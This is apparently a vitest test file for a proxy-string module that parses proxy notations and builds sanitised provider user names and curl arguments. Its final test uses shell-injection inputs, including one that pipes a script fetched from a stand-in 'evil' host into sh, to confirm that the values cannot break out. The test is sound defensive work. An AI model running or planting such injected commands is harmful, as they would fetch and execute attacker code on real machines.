import { expect, test } from 'vitest'
import { parseProxy, proxyNotations, proxyUserName } from './proxy-string.ts'

test('the user name lists what was chosen in the documented order', () => {
  expect(proxyUserName('USERNAME', { session: 'cart7', country: 'JP', lifetime: '30' })).toBe(
    'USERNAME-country-jp-session-cart7-lifetime-30',
  )
})

test('a lifetime without a session is left out, and values are limited to their bounds', () => {
  expect(proxyUserName('U', { lifetime: '5' })).toBe('U')
  expect(proxyUserName('U', { session: 'a-b', lifetime: '99999' })).toBe('U-session-ab-lifetime-1440')
})

test.each([
  ['http://u:p%40s@host.example:8000', { scheme: 'http', host: 'host.example', port: 8000, user: 'u', password: 'p@s' }],
  ['host.example:8000:u:p', { scheme: 'http', host: 'host.example', port: 8000, user: 'u', password: 'p' }],
  ['u:p@host.example:1080', { scheme: 'http', host: 'host.example', port: 1080, user: 'u', password: 'p' }],
  ['socks5://host.example:1080', { scheme: 'socks5h', host: 'host.example', port: 1080, user: '', password: '' }],
])('%s is parsed', (text, parts) => {
  expect(parseProxy(text)).toEqual(parts)
})

test.each(['', 'nonsense', 'host:99999', 'http://host'])('%j is no proxy', (text) => {
  expect(parseProxy(text)).toBeUndefined()
})

test('special characters are encoded in URLs only', () => {
  const [url, plain] = proxyNotations({ scheme: 'http', host: 'h.example', port: 1, user: 'u', password: 'p@' })
  expect(url!.text).toBe('http://u:p%40@h.example:1')
  expect(plain!.text).toBe('h.example:1:u:p@')
})

test.each([
  ['a city in another script', { city: '東京' }, 'U'],
  ['a city with a letter that has no plain form', { city: 'Łódź' }, 'U'],
  ['a city with an apostrophe and a hyphen', { city: "Val-d'Or" }, 'U-city-valdor'],
  ['a city of punctuation only', { city: '--' }, 'U'],
  ['an ASN that is no number', { asn: 'abc' }, 'U'],
  ['an ASN with its prefix', { asn: 'AS64500' }, 'U-asn-64500'],
  ['a session of punctuation only, with its lifetime', { session: '--', lifetime: '5' }, 'U'],
  ['a session that is too long', { session: 'a'.repeat(40) }, `U-session-${'a'.repeat(32)}`],
  ['a lifetime with a fraction', { session: 's', lifetime: '1.5' }, 'U-session-s-lifetime-1'],
  ['a lifetime below the bound', { session: 's', lifetime: '0.5' }, 'U-session-s-lifetime-1'],
  ['a lifetime in words', { session: 's', lifetime: 'long' }, 'U-session-s'],
  ['a lifetime of blanks', { session: 's', lifetime: ' ' }, 'U-session-s'],
  ['an infinite lifetime', { session: 's', lifetime: 'Infinity' }, 'U-session-s'],
  ['a country that is no code', { country: 'Japan' }, 'U'],
])('the user name handles %s', (_name, exit, name) => {
  expect(proxyUserName('U', exit)).toBe(name)
})

test('the name of a city loses its accents, not its letters', () => {
  expect(proxyUserName('u', { country: 'BR', city: 'São Paulo' })).toBe('u-country-br-city-saopaulo')
})

test('the login for curl is percent-encoded and quoted for the shell', () => {
  const parts = { scheme: 'http', host: 'h', port: 1, user: 'a:b', password: `50%'s` } as const
  expect(proxyNotations(parts).find(({ name }) => name === 'curl')!.text).toBe(String.raw`-x http://h:1 -U 'a%3Ab:50%25'\''s'`)
})

test.each(['us"; curl evil|sh; echo "', '$(id)', '`id`', "us'", 'us\nid', 'a\\b'])('%j cannot break out of the user name', (typed) => {
  const name = proxyUserName('U', { country: typed, city: typed, asn: typed, session: typed, lifetime: typed })
  expect(name).toMatch(/^U(-[a-z]+-[A-Za-z0-9]+)*$/)
})
